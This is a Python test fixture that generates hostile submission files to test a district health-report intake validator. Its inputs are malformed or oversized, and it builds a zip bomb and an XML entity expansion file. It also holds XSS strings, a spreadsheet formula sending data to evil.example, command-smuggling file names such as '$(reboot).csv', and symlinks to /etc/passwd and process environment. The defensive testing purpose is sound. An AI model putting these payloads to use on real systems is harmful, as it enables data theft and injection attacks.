"""A generated day of hostile inboxes: what a hostile district, a careless clerk and a broken PC send.

Classes, not examples: every file is a real file written into a real inbox,
built from one district's real-shaped rows by a mutation of one class (sizes,
shapes, numbers, dates, encodings, names, links), in several formats and
encodings each. `write_corpus` returns what it wrote, so a test can ask for a
verdict on every one of them.
"""

from __future__ import annotations

import csv
import io
import os
import random
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from bantin import demo_data, reference
from bantin.submission_files import write_csv, write_xlsx
from bantin.submission_format import COLUMNS, COUNT_COLUMNS

PROVINCE = 22
SOURCE_DAY = date(2021, 10, 19)  # the real-shaped figures; the files carry the test's own report date


@dataclass(frozen=True)
class Entry:
    path: Path  # in landing/<district>/
    kind: str  # the class of hostility
    regular: bool = True


def base_rows(day: date) -> dict[int, list[dict]]:
    """SOURCE_DAY's figures, dated `day`, on the unit list in force on `day` (a commune merged since is left out)."""
    rows = demo_data.generate_rows(PROVINCE, SOURCE_DAY, SOURCE_DAY)
    units = {c.code: c for c in reference.communes(province_code=PROVINCE, on=day)}
    return {
        district: [
            dict(r, report_date=day, commune_name=units[r["commune_code"]].name)
            for r in district_rows
            if r["commune_code"] in units
        ]
        for (_, district), district_rows in rows.items()
    }


def _text_table(rows: list[dict]) -> list[list[str]]:
    table = [[c.header_vi for c in COLUMNS]]
    for row in rows:
        table.append(["" if row.get(c.name) is None else str(row.get(c.name)) for c in COLUMNS])
    return table


def _csv_bytes(table: list[list], encoding: str = "utf-8", separator: str = ",") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=separator, lineterminator="\r\n").writerows(table)
    text = buffer.getvalue()
    if encoding == "cp1258":
        from bantin.submission_files import encode_cp1258

        return encode_cp1258(text)
    return text.encode(encoding, errors="replace")


# Mutations of the rows: each returns new rows (values may be any text: they are written as text).
def _set(column, value, where="all"):
    def mutate(rows, rng):
        rows = [dict(r) for r in rows]
        targets = rows if where == "all" else [rows[rng.randrange(len(rows))]]
        for row in targets:
            row[column] = value(rng) if callable(value) else value
        return rows

    return mutate


ROW_MUTATIONS = {
    # numbers
    "count_above_int64": _set("new_cases", "99999999999999999999", "one"),
    "count_int64_max": _set("tests_performed", "9223372036854775807", "one"),
    "count_negative_huge": _set("deaths", "-9223372036854775809", "one"),
    "count_5000_digits": _set("recovered", "9" * 5000, "one"),
    "count_float_huge": _set("in_treatment", "1e308", "one"),
    "count_nan": _set("severe", "NaN", "one"),
    "count_inf": _set("severe", "inf", "all"),
    "count_decimal": _set("returnees", "2,5", "one"),
    "count_grouped_huge": _set("f1_traced", "1.234.567.890.123.456", "one"),
    "count_above_population": _set("quarantine_home", "50000000", "one"),
    "count_arabic_digits": _set("new_cases", "\u0661\u0662", "one"),
    "count_superscript": _set("new_cases", "\u00b2", "one"),
    "count_fullwidth": _set("new_cases", "\uff11\uff12", "one"),
    "count_text": _set("tests_positive", "không có", "all"),
    "count_formula": _set("new_cases", "=1+1", "one"),
    "count_empty_all": _set("new_cases", "", "all"),
    "count_plus_sign": _set("tests_performed", "+5", "one"),
    "count_spaced_digits": _set("recovered", " 1 2 3 ", "one"),
    "count_exponent": _set("returnees", "1E3", "one"),
    "count_hex": _set("returnees", "0x10", "one"),
    # dates
    "date_dotted": _set("report_date", lambda rng: "19.10.2021", "all"),
    "date_empty": _set("report_date", "", "all"),
    "date_year_1": _set("report_date", "0001-01-01", "all"),
    "date_year_9999": _set("report_date", "9999-12-31", "all"),
    "date_impossible": _set("report_date", "31/02/2021", "all"),
    "date_serial": _set("report_date", "44488", "all"),
    "date_words": _set("report_date", "hôm nay", "all"),
    "date_mixed": _set("report_date", "2021-10-18", "one"),
    "date_old": _set("report_date", "2001-01-01", "all"),
    "date_future": _set("report_date", "2099-01-01", "all"),
    # text
    "notes_long": _set("notes", lambda rng: "Ghi chú dài " * 120_000, "one"),
    "notes_script": _set("notes", "<script>alert(1)</script><img src=x onerror=alert(2)>", "all"),
    "notes_formula": _set("notes", '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")', "all"),
    "notes_terminal": _set("notes", "\x1b[2J\x1b]0;pwned\x07\u202eevil", "all"),
    "name_script": _set("commune_name", "<script>alert('xã')</script>", "one"),
    "name_long": _set("commune_name", "Xã " + "rất dài " * 2000, "one"),
    "name_nul_like": _set("commune_name", "Xã\u0000Ẩn", "one"),
    "notes_many_lines": _set("notes", "dòng\n" * 3000, "one"),
    # identity
    "commune_unknown": _set("commune_code", "99999", "one"),
    "commune_huge": _set("commune_code", "999999999999999999999999", "one"),
    "district_other": _set("district_code", "193", "all"),
    "district_negative": _set("district_code", "-1", "all"),
}


def _many_rows(rows, rng, count=300_000):
    return "Mã xã\r\n" + "1\r\n" * count


def _shape_files(rows: list[dict], rng: random.Random, max_bytes: int) -> dict[str, bytes]:
    """Whole-file hostility: sizes and shapes."""
    table = _text_table(rows)
    header = table[0]
    files = {
        "empty": b"",
        "one_byte": b"x",
        "bom_only": b"\xef\xbb\xbf",
        "blank_lines": b"\r\n" * 200_000,
        "one_cell_rows": _many_rows(rows, rng).encode(),
        "many_rows_valid_shape": _csv_bytes([header] + [table[1]] * 30_000)[: max_bytes - 10],
        "wide_header": _csv_bytes([header + [f"cột lạ {i}" for i in range(100_000)]] + table[1:])[: max_bytes - 10],
        "wide_header_20k": _csv_bytes([header + [f"c{i}" for i in range(20_000)]] + table[1:]),
        "wide_row": _csv_bytes([header, table[1] + [""] * 50_000 + ["x"]] + table[2:]),
        "giant_field": _csv_bytes([header, [("x" * 500_000)] + table[1][1:]]),
        "unterminated_quote": _csv_bytes(table)[:200] + b'"' + b"a" * 1000,
        "header_only": _csv_bytes([header]),
        "no_header": _csv_bytes(table[1:]),
        "duplicate_header": _csv_bytes([header + [header[4]]] + [r + ["1"] for r in table[1:]]),
        "missing_columns": _csv_bytes([r[:5] for r in table]),
        "ragged": _csv_bytes([table[0]] + [r[: rng.randrange(1, len(r))] for r in table[1:]]),
        "transposed": _csv_bytes([list(col) for col in zip(*table, strict=False)]),
        "totals_wrong": _csv_bytes(table + [["Tổng cộng", "", "", ""] + ["999999"] * (len(header) - 4)]),
        "over_size_limit": b"a," * (max_bytes // 2 + 1000),
        "random_binary": bytes(rng.randrange(256) for _ in range(5000)),
        "legacy_xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000,
        "broken_zip": b"PK\x03\x04" + b"\x00" * 500,
        "zip_bomb": _zip_bomb(),
        "zip_without_workbook": _zip_of({"hello.txt": b"hi"}),
        "xml_entities": _zip_of(
            {
                "xl/workbook.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><workbook>&b;</workbook>',
                "[Content_Types].xml": b"<Types/>",
            }
        ),
        # encodings
        "utf16_no_bom": "\r\n".join(",".join(r) for r in table).encode("utf-16-le"),
        "utf32": "\r\n".join(",".join(r) for r in table).encode("utf-32"),
        "latin1": "\r\n".join(",".join(r) for r in table).encode("latin-1", errors="replace"),
        "shift_jis_noise": "\r\n".join(",".join(r) for r in table).encode("utf-8").replace(b"\xc3", b"\x82\xa0"),
        "nul_bytes": _csv_bytes(table).replace(b",", b",\x00", 3),
        "invalid_utf8_tail": _csv_bytes(table) + b"\xff\xfe\xfd",
        "utf8_bom_semicolon": b"\xef\xbb\xbf" + _csv_bytes(table, separator=";"),
        "cp1258_tab": _csv_bytes(table, "cp1258", "\t"),
    }
    return files


def _zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _zip_bomb() -> bytes:
    return _zip_of({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"\x00" * (150 * 1024 * 1024)})


NAMES = [
    "báo cáo ngày.csv",
    "x" * 200 + ".csv",
    "-rf.csv",
    "tên có\ndòng mới.csv",
    "$(reboot).csv",
    "..csv",
    "báo cáo.xlsx.csv",
    "report.XLSX",
    "no_extension",
    "a b  c.csv",
    "%2e%2e%2f.csv",
    "\u202egnp.csv",
    "<b>bold<\u2215b>.csv",
]


def write_corpus(landing: Path, day: date, *, max_bytes: int, secret: Path) -> list[Entry]:
    """At least 200 hostile entries across the province's inboxes; returns them (dot-files excluded)."""
    rng = random.Random(f"hostile:{day}")
    rows_of = base_rows(day)
    districts = sorted(rows_of)
    province = reference.province(PROVINCE, on=SOURCE_DAY)
    written: list[Entry] = []
    counter = 0

    def put(district: int, name: str, data: bytes, kind: str) -> None:
        nonlocal counter
        counter += 1
        folder = landing / str(district)
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{counter:03d}_{name}"
        path.write_bytes(data)
        written.append(Entry(path, kind))

    # Row mutations, each in three shapes: UTF-8 CSV, cp1258 CSV with ";" and dd/mm dates, XLSX of text cells.
    for index, (kind, mutate) in enumerate(sorted(ROW_MUTATIONS.items())):
        district = districts[index % len(districts)]
        rows = mutate(rows_of[district], rng)
        put(district, f"{kind}.csv", _csv_bytes(_text_table(rows)), kind)
        put(
            district,
            f"{kind}_cp1258.csv",
            _csv_bytes(_text_table(rows), "utf-16")
            if kind.startswith(("notes_terminal", "name_nul"))
            else _csv_safe_cp1258(rows),
            kind,
        )
        xlsx = landing / f".{kind}.xlsx"
        try:
            write_xlsx(
                rows,
                xlsx,
                province_name=province.name_full,
                district_name=f"{district}",
                report_date=day,
                numbers_as_text=True,
                dates_as_text=True,
            )
            put(district, f"{kind}.xlsx", xlsx.read_bytes(), kind)
        except Exception:  # openpyxl refuses some text (control characters): the CSVs carry that class
            pass
        xlsx.unlink(missing_ok=True)
    # Sizes, shapes and encodings, each in two districts.
    shapes = _shape_files(rows_of[districts[0]], rng, max_bytes)
    for index, (kind, data) in enumerate(sorted(shapes.items())):
        for district in (districts[index % len(districts)], districts[(index + 5) % len(districts)]):
            put(district, f"{kind}.csv", data, kind)
    # Names: a valid file under every hostile name.
    for index, name in enumerate(NAMES):
        district = districts[index % len(districts)]
        rows = [dict(r, notes=f"tên {index}") for r in rows_of[district]]
        counter += 1
        folder = landing / str(district)
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{counter:03d}{name}"
        write_csv(rows, path)
        written.append(Entry(path, "name"))
    # A name that is not UTF-8 at all (Linux names are bytes).
    counter += 1
    raw = os.fsencode(landing / str(districts[4])) + f"/{counter:03d}_".encode() + b"b\xe1o c\xe1o \xff\xfe.csv"
    write_csv([dict(r, notes="tên tệp không phải UTF-8") for r in rows_of[districts[4]]], os.fsdecode(raw))
    written.append(Entry(Path(os.fsdecode(raw)), "name_not_utf8"))
    # Links and other non-regular entries: never followed, never opened.
    targets = {
        "link_secret": secret,
        "link_environ": Path("/proc/self/environ"),
        "link_passwd": Path("/etc/passwd"),
        "link_dangling": landing / "nowhere.csv",
        "link_dir": Path("/etc"),
        "link_other_inbox": written[0].path,
    }
    for index, (kind, target) in enumerate(targets.items()):
        district = districts[(index + 3) % len(districts)]
        counter += 1
        path = landing / str(district) / f"{counter:03d}_{kind}.csv"
        path.symlink_to(target)
        written.append(Entry(path, kind, regular=False))
    counter += 1
    fifo = landing / str(districts[1]) / f"{counter:03d}_fifo.csv"
    os.mkfifo(fifo)
    written.append(Entry(fifo, "fifo", regular=False))
    # A folder that is a link: never entered (its files are not the district's).
    (landing / str(districts[2]) / "linked_folder").symlink_to(secret.parent)
    # The good files of the day, for every district, so the bulletin has figures.
    for district in districts:
        counter += 1
        path = landing / str(district) / f"{counter:03d}_good.csv"
        write_csv(rows_of[district], path)
        written.append(Entry(path, "good"))
    return written


def _csv_safe_cp1258(rows: list[dict]) -> bytes:
    table = _text_table(rows)
    table = [
        [c.replace("-", "/") if i == 0 and len(c) == 10 and c[4] == "-" else c for i, c in enumerate(r)] for r in table
    ]  # dd/mm-ish and a different writer: the same class through another reader path
    try:
        return _csv_bytes(table, "cp1258", ";")
    except ValueError:
        return _csv_bytes(table, "utf-16", "\t")


__all__ = ["COUNT_COLUMNS", "Entry", "write_corpus", "base_rows"]
